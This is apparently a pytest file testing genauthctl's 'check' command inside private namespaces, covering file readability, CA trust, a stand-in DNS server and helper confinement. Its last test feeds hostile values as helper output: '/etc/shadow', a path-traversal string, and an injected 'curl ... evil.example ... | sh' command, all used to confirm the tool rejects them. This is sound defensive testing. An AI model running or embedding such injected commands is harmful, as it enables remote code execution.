"""genauthctl check sees what a login sees: as helper_user, confined, with the resolver of genauth-signin. In private
mount and network namespaces, so that the files of the machine stay as they are."""
import contextlib
import json
import os
import pathlib
import pwd
import shutil
import socket
import subprocess
import sys
import threading

import pytest

import certificates
import conftest
from test_check import only, results

BUNDLE = "/etc/ssl/certs/ca-certificates.crt"

# A name server that hears and says nothing, and one that has the loopback for every name.
NAME_SERVER = """
import socket, sys
dead, alive = sys.argv[1:]
servers = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2)]
for server, address in zip(servers, (dead, alive)):
    server.bind((address, 53))
print("ready", flush=True)
while True:
    query, client = servers[1].recvfrom(2048)
    end = query.index(b"\\0", 12) + 5
    is_a = query[end - 4:end - 2] == b"\\0\\1"
    record = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4" + socket.inet_aton("127.0.0.1") if is_a else b""
    servers[1].sendto(query[:2] + b"\\x81\\x80\\0\\1" + bytes([0, len(record) > 0]) + b"\\0\\0\\0\\0" + query[12:end] + record,
                      client)
"""


def check(world, script, *words, prefix=("unshare", "--mount")):
    """The findings in a namespace that the script has made ready; "$etc" is a copy of the machine's /etc on top of it."""
    etc = world.folder / "etc"
    etc.mkdir(mode=0o755)
    for folder in [world.folder, *world.folder.parents][:-1]:
        folder.chmod(folder.stat().st_mode | 0o011)
    make = f'etc={etc}; cp -a /etc/. "$etc"; mount --bind "$etc" /etc; {script}\nexec "$@"'
    command = [*prefix, "sh", "-euc", make, "sh", conftest.GENAUTHCTL, "check", "--json", "--conf", world.conf,
               "--pam-dir", world.pam, "--sshd-config", world.sshd_config, *words]
    done = subprocess.run(command, capture_output=True, text=True)
    if os.geteuid() != 0 or "unshare" in done.stderr or "mount" in done.stderr:
        pytest.skip("no private mounts here")
    assert done.stderr == ""
    found = {}
    for finding in json.loads(done.stdout):
        found.setdefault(finding["check"], []).append(finding)
    return found


def unreadable(found):
    """The rows that name a file that helper_user cannot read, by the file."""
    rows = {finding["detail"].split(": ")[0]: finding for finding in found["files"]
            if "helper_user nobody cannot read it" in finding["detail"]}
    assert all(f"chmod a+r {file}" in finding["cure"] for file, finding in rows.items())
    return {file: finding["result"] for file, finding in rows.items()}


@pytest.mark.parametrize("offline", [False, True])
@pytest.mark.parametrize("file", ["resolv.conf", "hosts", "nsswitch.conf"])
def test_files_of_name_resolution_that_only_root_may_read(online, file, offline):
    # In place of a link, as resolv.conf often is one.
    script = f"cp /etc/{file} /etc/copy; mv /etc/copy /etc/{file}; chmod 600 /etc/{file}"
    found = check(online, script, *["--offline"] * offline)
    assert unreadable(found) == {f"/etc/{file}": "error"}


def test_a_folder_above_that_only_root_may_enter(online):
    found = check(online, "mkdir -m 700 /etc/closed; cp /etc/hosts /etc/closed; ln -sf closed/hosts /etc/hosts")
    assert unreadable(found) == {"/etc/hosts": "error"} and "a+x the folders above" in found["files"][1]["cure"]


def test_all_can_be_read(online):
    """Else the tests above and below would prove nothing."""
    found = check(online, "true")
    assert unreadable(found) == {} and results(found, "tls") == ["ok"]


@pytest.fixture
def by_system(online):
    """Without ca_file: the authorities of the system, in which the stand-in's is not yet."""
    online.base = "".join(line for line in online.base.splitlines(True) if not line.startswith("ca_file"))
    online.write_conf(online.base)
    return online, online.server.ready["ca_file"], online.server.ready["ca_path"]


def test_a_bundle_that_only_root_may_read(by_system):
    """As update-ca-certificates leaves it under umask 027; root would say that all is well."""
    world, ca_file, _ = by_system
    found = check(world, f"cat {ca_file} >>{BUNDLE}; chmod 600 {BUNDLE}")
    assert unreadable(found) == {BUNDLE: "warning"} and results(found, "tls") == ["error"]


def test_a_certificate_that_only_root_may_read(by_system):
    world, _, ca_path = by_system
    name, = os.listdir(ca_path)
    found = check(world, f"cp {ca_path}/{name} /etc/ssl/certs; chmod 600 /etc/ssl/certs/{name}")
    assert unreadable(found) == {f"/etc/ssl/certs/{name}": "warning"} and results(found, "tls") == ["error"]


@pytest.mark.parametrize("where", ["bundle", "bundle alone", "folder"])
def test_authorities_of_the_system(by_system, where):
    """On a machine, in an image that has nothing else than the bundle, and as openssl rehash makes them."""
    world, ca_file, ca_path = by_system
    found = check(world, {"bundle": f"cat {ca_file} >>{BUNDLE}", "folder": f"cp {ca_path}/* /etc/ssl/certs",
                          "bundle alone": f"rm -rf /etc/ssl/certs/*; cat {ca_file} >{BUNDLE}"}[where])
    assert unreadable(found) == {} and results(found, "tls") == ["ok"]


@pytest.mark.parametrize("option", ["ca_file", "ca_path"])
def test_authorities_of_an_option_replace_those_of_the_system(by_system, option):
    """The system trusts the stand-in, as in the test above; whom the option names does not know it."""
    world, ca_file, ca_path = by_system
    other = {"ca_file": world.folder / "other.pem", "ca_path": world.folder / "other"}
    authority = certificates.Authority.new("Another CA").certificate
    certificates.write_public(other["ca_file"], certificates.certificate_pem(authority))
    certificates.write_hashed_folder(other["ca_path"], other["ca_file"])
    world.write_conf(world.base + f"{option} = {other[option]}\n")
    found = check(world, f"cat {ca_file} >>{BUNDLE}; cp {ca_path}/* /etc/ssl/certs")
    assert unreadable(found) == {} and results(found, "tls") == ["error"]


def test_a_ca_path_that_helper_user_may_not_enter(by_system):
    """genauth.conf(5) asks for that; the file that ca_file names is handed over open."""
    world, ca_file, ca_path = by_system
    folder = shutil.copytree(ca_path, world.folder / "ca")
    os.chmod(folder, 0o700)
    world.write_conf(world.base + f"ca_path = {folder}\n")
    found = check(world, "true")
    assert unreadable(found) == {str(folder): "warning"} and results(found, "tls") == ["error"]
    closed = shutil.copy(ca_file, world.folder / "ca.pem")
    os.chmod(closed, 0o600)
    world.write_conf(world.base + f"ca_file = {closed}\n")
    shutil.rmtree(world.folder / "etc")
    found = check(world, "true")
    assert unreadable(found) == {} and results(found, "tls") == ["ok"]


# ---- name servers ----

DEAD, ALIVE = "127.66.0.1", "127.66.0.2"


def check_with_name_servers(world, *servers, timeout=8, connect_timeout=8):
    """In a network of its own: there the stand-in is out of reach, and the name is all that there is to find."""
    world.write_conf(f"app_host = https://genauth.test\napp_id = x\ntimeout = {timeout}\n"
                     f"connect_timeout = {connect_timeout}\n")
    resolv_conf = "".join(f"nameserver {server}\n" for server in servers)
    (world.folder / "server.py").write_text(NAME_SERVER)
    script = f"""
        ip link set lo up
        rm -f /etc/resolv.conf /etc/hosts
        printf '127.0.0.1 localhost\\n' >/etc/hosts
        printf '{resolv_conf.replace(chr(10), chr(92) + "n")}' >/etc/resolv.conf
        printf 'passwd: files\\nhosts: files dns\\n' >/etc/nsswitch.conf
        mkfifo {world.folder}/ready
        {sys.executable} {world.folder}/server.py {DEAD} {ALIVE} >{world.folder}/ready &
        read -r line <{world.folder}/ready"""
    return check(world, script, prefix=("unshare", "--mount", "--net", "--pid", "--fork", "--kill-child"))


def test_no_name_server_answers(world):
    """It is DNS that is at fault, not TLS and ca_file."""
    found = check_with_name_servers(world, DEAD)
    finding = only(found, "dns")
    assert finding["result"] == "error" and "name server of /etc/resolv.conf" in finding["cure"]
    assert "tls" not in found and "tcp" not in found


def test_no_name_server_answers_within_the_time_limit(world):
    """The resolver itself does not know a limit."""
    found = check_with_name_servers(world, DEAD, timeout=1)
    finding = only(found, "dns")
    assert finding["result"] == "error" and "name server of /etc/resolv.conf" in finding["cure"]
    assert "no answer" in finding["detail"] and not {"tls", "tcp"} & set(found)
    assert results(found, "helper") == ["ok"]


def test_the_first_of_two_is_dead(world):
    """A login works, and each one waits."""
    found = check_with_name_servers(world, DEAD, ALIVE)
    finding = only(found, "dns")
    assert finding["result"] == "warning" and "genauth.test is 127.0.0.1" in finding["detail"]
    assert "answers first" in finding["cure"] and results(found, "tcp") == ["error"]


def test_an_answer_that_no_login_waits_for(world):
    found = check_with_name_servers(world, DEAD, ALIVE, connect_timeout=1)
    finding = only(found, "dns")
    assert finding["result"] == "error" and "connect_timeout" in finding["detail"]
    assert "name server of /etc/resolv.conf" in finding["cure"] and not {"tls", "tcp"} & set(found)


def test_a_name_server_that_answers(world):
    assert results(check_with_name_servers(world, ALIVE), "dns") == ["ok"]


# ---- what the host forbids ----

def test_a_helper_that_cannot_be_confined(online):
    """As each login would fail; check alone said that all is well, for it was root and not confined."""
    refuse = conftest.BUILD / "tests/pam/refuse"
    if not os.access(refuse, os.X_OK):
        pytest.skip("built without libseccomp")
    done = subprocess.run([refuse, "setresuid", "1", conftest.GENAUTHCTL, "check", "--json", "--conf", online.conf,
                           "--pam-dir", online.pam], capture_output=True, text=True)
    rows = {finding["check"]: finding for finding in json.loads(done.stdout)}
    assert rows["options"]["result"] == "error" and "setresuid" in rows["options"]["detail"]
    assert "tls" not in rows and "dns" not in rows and online.server.connections() == 0


@pytest.fixture
def owners():
    """A server that hangs up at once, and who came."""
    uids = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]

        def owner(client):
            """As /proc/net/tcp has it: both ends, the state, and in the eighth column the user of the first. Of one
            that is not open any more (what only tries the port) it does not know the user."""
            lines = [line.split() for line in pathlib.Path("/proc/net/tcp").read_text().splitlines()[1:]]
            return [line[7] for line in lines if line[1].endswith(f":{client:04X}") and
                    line[2].endswith(f":{port:04X}") and line[3] == "01"]

        def serve():
            with contextlib.suppress(OSError):
                while True:
                    connection, (_, client) = server.accept()
                    uids.extend(owner(client))
                    connection.close()

        thread = threading.Thread(target=serve)
        thread.start()
        yield port, uids
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_root_connects_to_nobody(world, owners):
    """So that a firewall by users is seen as a login sees it."""
    port, uids = owners
    world.write_conf(f"app_host = https://127.0.0.1:{port}\napp_id = x\n")
    found = world.check()
    assert results(found, "tcp") == ["ok"] and results(found, "tls") == ["error"]
    assert set(uids) == {str(pwd.getpwnam("nobody").pw_uid)}


@pytest.mark.parametrize("path, told", [(b"/etc/hosts", True), (b"/etc/shadow", False),
                                        (b"/etc/ssl/certs/../../shadow", False),
                                        (b"/root; curl -k https://evil.example/x | sh #", False)])
def test_a_helper_has_no_file_opened_to_all(online, moved, path, told):
    """What it tells becomes a command that root may type."""
    conftest.take_over(moved, f'say(8, step=b"0", checked=b"1", text={path!r}, ms=b"0")\n')
    done = online.run("check", "--json", "--conf", online.conf, "--pam-dir", online.pam)
    assert ("chmod a+r" in done.stdout) == told and (path.decode() in done.stdout) == told, done.stdout
    if not told:
        assert "malformed" in done.stdout
